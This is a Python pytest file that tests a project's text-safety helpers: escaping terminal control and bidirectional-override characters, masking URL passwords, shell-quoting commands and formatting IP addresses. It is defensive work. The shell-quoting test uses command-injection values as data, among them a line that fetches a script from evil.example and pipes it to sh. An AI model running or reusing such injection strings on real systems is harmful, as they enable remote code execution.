"""Text of others at a terminal: shown, never obeyed."""

import json
import shlex
import subprocess

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from bay.components.text import command, first_ipv4, host_and_port, is_printable, printable, without_passwords
from bay.components.yaml_file import dump


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain ünïcode 日本 🎉", "plain ünïcode 日本 🎉"),
        ("a\tb\nc", "a\tb\nc"),
        ("esc\x1b[2J", "esc\\x1b[2J"),
        ("bell\x07 back\x08 return\r", "bell\\x07 back\\x08 return\\x0d"),
        ("c1\x9b31m\x7f\x85", "c1\\x9b31m\\x7f\\x85"),
        ("\u202ecod.exe\u2066\u061c\u200f", "\\u202ecod.exe\\u2066\\u061c\\u200f"),
        ("zero\u200bwidth\ufeff soft\xadhyphen", "zero\\u200bwidth\\ufeff soft\\xadhyphen"),
        ("line\u2028end", "line\\u2028end"),
        (b"\xff.yaml".decode(errors="surrogateescape"), "\\udcff.yaml"),
    ],
)
def test_what_acts_on_a_terminal_is_shown_as_its_code(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert is_printable(text) == (text == shown)
    printable(text).encode()


@given(st.text())
def test_yaml_for_people_is_the_same_value_and_acts_on_nothing(text: str) -> None:
    document = {"name": text, text: [text]}
    written = dump(document)
    assert is_printable(written)
    assert yaml.safe_load(written) == document


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("postgres://bay:secret@host/db", "postgres://bay:***@host/db"),
        ("http://u:p@ss:w@rd@proxy:3128 and https://a:b@c", "http://u:***@proxy:3128 and https://a:***@c"),
        ("http://proxy:3128/", "http://proxy:3128/"),
        ("http://user@proxy", "http://user@proxy"),
    ],
)
def test_passwords_of_urls_are_masked(text: str, masked: str) -> None:
    assert without_passwords(text) == masked


@pytest.mark.parametrize(
    "word", ["x; curl http://evil.example/s|sh #", "$(id)", "`id`", "a b", "", "-rf", "'", "\n", "~"]
)
def test_a_command_to_be_copied_is_the_same_words_in_a_shell(word: str) -> None:
    text = command("printf", "%s\\0", word)
    assert shlex.split(text) == ["printf", "%s\\0", word]
    answer = subprocess.run(["sh", "-c", text], capture_output=True, text=True, check=True)
    assert answer.stdout == f"{word}\0"


def test_json_escapes_by_itself() -> None:
    assert is_printable(json.dumps("\x1b\u202e\x9b"))


@pytest.mark.parametrize(
    ("addresses", "first"),
    [
        (["2001:db8::5", "203.0.113.5"], "203.0.113.5"),
        (["10.0.0.5", "fd00::5"], "10.0.0.5"),
        (["10.0.0.5", "10.0.0.6"], "10.0.0.5"),
        (["fd00::5"], "fd00::5"),
        ([""], ""),
    ],
)
def test_the_first_address_of_ipv4_counts(addresses: list[str], first: str) -> None:
    assert first_ipv4(addresses) == first


@pytest.mark.parametrize(
    ("host", "text"),
    [("203.0.113.5", "203.0.113.5:6443"), ("2001:db8::5", "[2001:db8::5]:6443"), ("api.example", "api.example:6443")],
)
def test_an_address_of_ipv6_has_brackets_before_its_port(host: str, text: str) -> None:
    assert host_and_port(host, 6443) == text
